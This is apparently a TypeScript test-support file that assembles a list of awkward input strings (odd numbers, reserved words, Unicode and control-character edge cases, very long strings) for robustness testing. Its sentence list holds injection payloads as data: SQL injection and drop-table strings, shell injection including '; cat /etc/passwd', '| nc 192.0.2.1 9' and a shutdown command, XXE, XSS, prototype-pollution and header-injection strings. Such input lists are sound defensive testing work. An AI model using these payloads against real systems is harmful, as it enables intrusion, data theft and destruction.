import { extraItems } from '#tests/support/extra-inputs.ts'

const NUMBERS = `
0 1 -1 +1 1.00 $1.00 1/2 1E2 1E+02 -1E-02 0x1F 0b11 0o17 1,000.00 1.000,00 1'000 1_000 00042 .5 5. 1e1000 NaN -NaN Infinity -Infinity INF
1#INF 1#QNAN 9007199254740993 -9223372036854775808 18446744073709551616 0.30000000000000004 123456789012345678901234567890123456789
`
const WORDS = `
undefined undef null NULL (null) nil NIL true false True False yes no on off None none hasOwnProperty then constructor __proto__ prototype
toString valueOf self this default select table order user public root admin nobody anonymous unknown N/A n/a - -- _ . .. ... \\ \\\\ / // ?
# ## % %% & && * ** | || ~ ^ @ : ; , ' '' " "" \` ( ) [] {} <> ?? !! %s %d %n %x %% %p %.1024d \${1+1} {{1+1}} <%= 1+1 %> #{1+1} \${HOME} $HOME
%HOME% CON PRN AUX NUL COM1 LPT1 A: ZZ: /dev/null ../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd C:\\temp\\x
Scunthorpe Penistone Cockburn Dick Lipshitz O'Neil D'Angelo McDonald's AT&T Smith-Jones Null True,False
01/02/03 2026-02-30 24:00 23:60 12:00:61 00:00 1970-01-01T00:00:00Z 0001-01-01 9999-12-31 JAN1 1-2 3/4 MAR10 SEPT1 2E5 1D2 0xDEADBEEF
#REF! #VALUE! #N/A #DIV/0! #NAME? #NUM! #NULL! [object Object] function(){} =A1 =1+1 +A1 -A1 @A1
`
const SENTENCES = [
  "'; drop table load; --",
  "1' or '1'='1",
  "x'; update company set name = 'y' where ''='",
  '1; select pg_sleep(9)',
  '$$; select 1; $$',
  'a" or "" = "',
  '$(touch /tmp/x)',
  '`touch /tmp/x`',
  '; cat /etc/passwd',
  '| nc 192.0.2.1 9',
  '&& shutdown -h now',
  "Kernel.exit(1)'); system('x",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '{"$gt": ""}',
  '{"__proto__": {"isAdmin": true}}',
  '<b>bold</b> & <i>not closed',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  "javascript:alert('x')",
  '" autofocus onfocus="alert(1)',
  '&lt;already&gt; &amp;escaped; &#60; &#x3c;',
  'https://x.example/?a=1&b=2#c',
  'mailto:a@b.example?subject=x%0d%0abcc:c@d.example',
  'Subject: x\r\nBcc: c@d.example',
  '\u001b[31mred\u001b[0m',
  'bell \u0007 backspace \u0008 form \u000c escape \u001b',
  'all of C1: \u0080\u0085\u008f\u0090\u009f',
  'tab\there, line\nthere, return\rover, both\r\ndown',
  ' leading',
  'trailing ',
  '\u00a0no break\u00a0',
  'two  blanks',
  'a\u2028line\u2029separated',
  'soft\u00adhyphen and zero\u200bwidth and joiner\u2060here',
  '\u202eturned around\u202c and back',
  '\u2066isolated\u2069 \u2067other way\u2069',
  '\ufeffmarked at its start',
  'half a letter \ud83d alone, and \udc00 alone',
  'not a character \ufffe \uffff \u{1ffff}',
  'private \ue000 \u{f0000}',
  'tagged \u{e0041}\u{e0042}\u{e007f}',
  'e\u0301 and \u00e9, A\u030a and \u00c5 and \u212b, \ufb01 and fi',
  'İstanbul ISPARTA ırmak, Straße STRASSE, ΌΣΟΣ όσος, Dž dž',
  `stacked ${['a', 'b', 'c'].map((letter) => letter + '\u0300\u0316\u0321\u0334\u0489'.repeat(8)).join('')}`,
  'ʇxǝʇ uʍop ǝpᴉsdn',
  'ｆｕｌｌ　ｗｉｄｔｈ １２３ ＝１',
  '𝐛𝐨𝐥𝐝 𝒊𝒕𝒂𝒍𝒊𝒄 𝕕𝕠𝕦𝕓𝕝𝕖 ⓒⓘⓡⓒⓛⓔⓓ',
  '№ ™ © ® ½ ¾ ² ³ µ ° § ¶ † ‡ • … ‰ ′ ″ € £ ¥ ₩ ₹ ₽',
  '‘single’ “double” „low‟ «angles» 「corners」',
  'en – em — minus − hyphen ‐ bar ― tilde ～',
  '٠١٢٣ ۰۱۲۳ ०१२३ ๐๑๒๓ 零一二三',
  '👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇺🇸🇲🇽🇨🇦 1️⃣ ❤️‍🔥 🫱🏼‍🫲🏾',
  '🚚'.repeat(100),
  'شكراً جزيلاً، اتصل بالرقم 312-555-0100',
  'שלום, 26.11.2026 (ארה״ב)',
  'a'.repeat(2000),
  'word '.repeat(300),
  `${'deep('.repeat(200)}${')'.repeat(200)}`,
]

const SCRIPTS = `
00c0 0100 0180 0250 0391 0410 0490 0531 05d0 0621 0671 0710 0780 07ca 0800 0840 0905 0985 0a05 0a85 0b05 0b85 0c05 0c85 0d05 0d85 0e01 0e81
0f40 1000 10d0 1100 1200 13a0 1401 1680 16a0 1780 1820 1900 1950 1a00 1b05 1b83 1bc0 1c00 1c5a 1d00 1e00 1f00 2100 2190 2200 2300 2460 2500
2580 25a0 2600 2700 2800 2c00 2d30 3041 30a1 3105 3131 31a0 3200 3400 4e00 a000 a4d0 a500 a840 a882 a984 aa00 ac00 ff21 10000 10280 10330
10400 10900 10a10 11005 12000 13000 1d400 1f000 1f300 1f600 1f680 20000
`
const listOf = (text: string) => text.split(/\s+/).filter((word) => word !== '')

function* inScripts(): Generator<string> {
  for (const start of listOf(SCRIPTS).map((hex) => Number.parseInt(hex, 16))) {
    const letters = Array.from({ length: 12 }, (_, index) => String.fromCodePoint(start + index)).join('')
    yield letters
    yield `${letters.slice(0, 8)} Unit 12, 4' x 8'`
  }
}

export const AWKWARD_TEXTS: readonly string[] = [
  ...listOf(NUMBERS),
  ...listOf(WORDS),
  ...SENTENCES,
  ...inScripts(),
  ...extraItems<string>('naughty/blns.json'),
]
